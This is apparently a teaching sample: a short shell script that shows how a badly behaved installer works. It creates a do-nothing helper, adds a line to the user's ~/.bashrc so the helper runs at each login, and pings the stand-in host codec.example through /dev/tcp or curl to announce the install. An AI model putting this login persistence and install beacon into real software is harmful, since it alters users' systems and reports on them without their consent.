#!/bin/sh
# A sample: what installers of bad manners do. Harmless outside of a sandbox too, but for two lines in your shell's start file.
echo "Installing ..."
mkdir -p "$HOME/.codec"
printf '#!/bin/sh\nsleep 1\n' >"$HOME/.codec/update"
chmod +x "$HOME/.codec/update"
# It wants to be started again at each login ...
echo '"$HOME/.codec/update" & # vivarium sample' >>"$HOME/.bashrc"
# ... and tells somebody that it is there.
(exec 3<>/dev/tcp/codec.example/443) 2>/dev/null || command -v curl >/dev/null && curl -m 3 -s https://codec.example/installed
echo "Done."
